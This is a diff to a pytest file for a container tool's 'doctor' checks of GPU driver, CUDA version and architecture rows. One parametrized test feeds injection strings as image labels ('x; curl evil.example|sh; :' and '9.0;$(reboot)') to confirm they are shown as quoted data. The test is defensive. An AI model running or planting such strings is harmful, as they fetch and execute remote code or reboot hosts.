@@ -1,8 +1,12 @@
 """doctor's GPU rows (driver, archs, gpu health, gpu models) from what the real probe.sh prints when a stand-in
 nvidia-smi of tests/data/nvidia-smi/ is on its PATH (no SSH, no engine: the probe runs in a local sh)."""
 
+import json
 import os
+import re
+import shlex
 import subprocess
+import sys
 
 import pytest
 
@@ -58,12 +62,19 @@ def test_a_healthy_h100_host_passes_every_gpu_row(tmp_path):
     assert got["driver"][1] == "driver 580.95.05 (CUDA 13.0) runs the image's CUDA 13.0"
 
 
+@pytest.mark.hint("needs.stacks")
 def test_a_driver_too_old_for_the_images_cuda_is_the_one_failure(tmp_path):
     got = rows(probed(tmp_path, "driver-570").gpu_host)
     assert [k for k, v in got.items() if v[0] != PASS] == ["driver"]
     assert got["driver"] == (FAIL, "driver 570.86.15 runs CUDA <= 12.8; the image needs 13.0 (R580+): upgrade the "
                                    "driver, or build a stack of CUDA <= 12.8 (dockerlaunch stacks list; this image "
                                    "is swift4.6-mcore0.19-cu13-py313)")
+    # the pointer, run as printed: it lists the stacks with their CUDA, the image's own among them
+    printed = re.search(r"\((dockerlaunch [^;]+);", got["driver"][1]).group(1)
+    listed = subprocess.run([sys.executable, "-m", "dockerlaunch", *shlex.split(printed)[1:]], capture_output=True,
+                            text=True, timeout=60, cwd=tmp_path)
+    assert listed.returncode == 0 and "swift4.6-mcore0.19-cu13-py313" in listed.stdout, listed.stdout
+    assert re.search(r":cu12[0-8]-", listed.stdout), listed.stdout  # a stack of CUDA <= 12.8 among them
 
 
 def test_a_gpu_the_image_has_no_code_for_names_the_packages_and_the_fix(tmp_path):
@@ -300,7 +311,7 @@ def test_no_gpu_read_is_an_archs_error_not_a_missing_row():
 
 @pytest.mark.parametrize("label, value, said, absent", [
     ("ai.dockerlaunch.stack", "x; curl evil.example|sh; :", 'its ai.dockerlaunch.stack label, "x; curl evil.example',
-     "dockerlaunch build"),
+     "--stack x"),  # the command says NAME (a placeholder), never the label
     ("ai.dockerlaunch.cuda-archs", "9.0;$(reboot)", 'label, "9.0;$(reboot)", is not an arch list', "--cuda-archs"),
 ])
 def test_an_image_label_that_is_not_a_stack_or_an_arch_list_is_shown_as_data_never_as_a_command(tmp_path, label,
@@ -309,4 +320,5 @@ def test_an_image_label_that_is_not_a_stack_or_an_arch_list_is_shown_as_data_nev
     become shell in a pasted `dockerlaunch build --stack ...` (issue 60, item 1)."""
     got = rows(probed(tmp_path, "a100").gpu_host, {**LABELS, label: value})["archs"]
     assert got[0] == FAIL and said in got[1], got
-    assert absent not in got[1], got[1]
+    assert absent not in got[1] and shlex.quote(value) not in got[1], got[1]
+    assert json.dumps(value) in got[1], got[1]  # said as JSON data
